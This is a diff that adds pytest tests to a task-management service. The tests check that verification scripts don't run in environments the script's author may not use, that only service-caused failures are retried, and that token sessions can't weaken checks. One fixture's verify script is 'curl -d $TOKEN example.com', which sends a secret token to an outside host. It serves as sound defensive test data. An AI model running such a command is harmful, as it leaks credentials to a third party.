@@ -14,14 +14,14 @@ from rest_framework.test import APIClient
 from taskhub import jobs
 from taskhub.api import verifications as api_verifications
 from taskhub.auth.actor import SYSTEM, Actor
-from taskhub.errors import Conflict
+from taskhub.errors import Conflict, NotFound
 from taskhub.executions.artifact_collector import Kept
 from taskhub.executions.executor import ExecutorError, LogLine
 from taskhub.executions.log_reading import Window
 from taskhub.mcp.budget import fit, size_of
 from taskhub.mcp.tasks_extension import handle_of
 from taskhub.mcp.tools import Outcome as Answer
-from taskhub.models import Execution, ExecutionStatus, Note, Task, Verdict
+from taskhub.models import ApiToken, Execution, ExecutionStatus, Note, Task, Verdict
 from taskhub.services.environments import environment_create, environment_update
 from taskhub.services.executions import Outcome, execution_finish, execution_queue, execution_request_stop
 from taskhub.services.tasks import task_create, task_update
@@ -258,6 +258,52 @@ def test_work_that_is_again_as_it_was_is_verified_again(actor: Actor, task: Task
     ended(Execution.objects.get(pk=again))
     assert Task.objects.get().verified == Verdict.PASSED
     assert verifications_begin() == []
+
+
+def test_no_script_runs_unasked_in_an_environment_that_only_a_run_has_named(alice: User, settings: Any) -> None:
+    """Who wrote it need not be one who may use the environment."""
+    settings.TASKHUB_VERIFY_IN_REVIEW = True
+    environment_create(actor=SYSTEM, name="closed", allowed=["alice"])
+    bob, mine = Actor(door="rest", user=make_account("bob", "agent")), Actor(door="rest", user=alice)
+    task = task_create(actor=bob, title="t", verify="curl -d $TOKEN example.com", verify_policy="warn")
+    ended(execution_queue(actor=mine, task_id=task.pk, script="make", environment="closed"))
+    task_update(actor=bob, task_id=task.pk, status="review")
+    assert verifications_begin() == []
+    with pytest.raises(NotFound):
+        verification_request(actor=bob, task_id=task.pk)
+    task_update(actor=mine, task_id=task.pk, environment="closed")
+    assert len(verifications_begin()) == 1
+    environment_create(actor=SYSTEM, name="open")
+    other = task_create(actor=bob, title="u", verify="make test", verify_policy="warn")
+    ended(execution_queue(actor=mine, task_id=other.pk, script="make", environment="open"))
+    task_update(actor=bob, task_id=other.pk, status="review")
+    assert len(verifications_begin()) == 1
+
+
+@pytest.mark.parametrize(
+    ("code", "is_repeated"),
+    [
+        ("sandbox_unavailable", True),
+        ("sandbox_build_slow", True),
+        ("snapshot_slow", True),
+        ("sandbox_build_failed", False),
+        ("sandbox_not_held", False),
+        ("setup_failed", False),
+        ("evidence_gone", False),
+    ],
+)
+def test_only_what_the_service_has_caused_is_repeated(actor: Actor, task: Task, code: str, is_repeated: bool) -> None:
+    verified(actor, task.pk, Outcome(ExecutionStatus.FAILED, error_code=code))
+    assert (Execution.objects.get().retry_at is not None) is is_repeated
+
+
+def test_a_session_of_a_token_makes_no_check_laxer(alice: User, task: Task) -> None:
+    browser = APIClient()
+    text = ApiToken.objects.create(user=alice)[1]
+    assert browser.post("/login/token/", {"token": text, "next": "/"}).status_code == 302
+    for body in ({"verify_policy": "off"}, {"verify": "true"}):
+        refused = browser.patch(f"/api/tasks/{task.pk}/", body, format="json")
+        assert (refused.status_code, refused.json()["error"]["code"]) == (403, "evidence_locked")
 
 
 def test_a_verification_that_cannot_be_begun_holds_no_run_up(monkeypatch: pytest.MonkeyPatch) -> None:
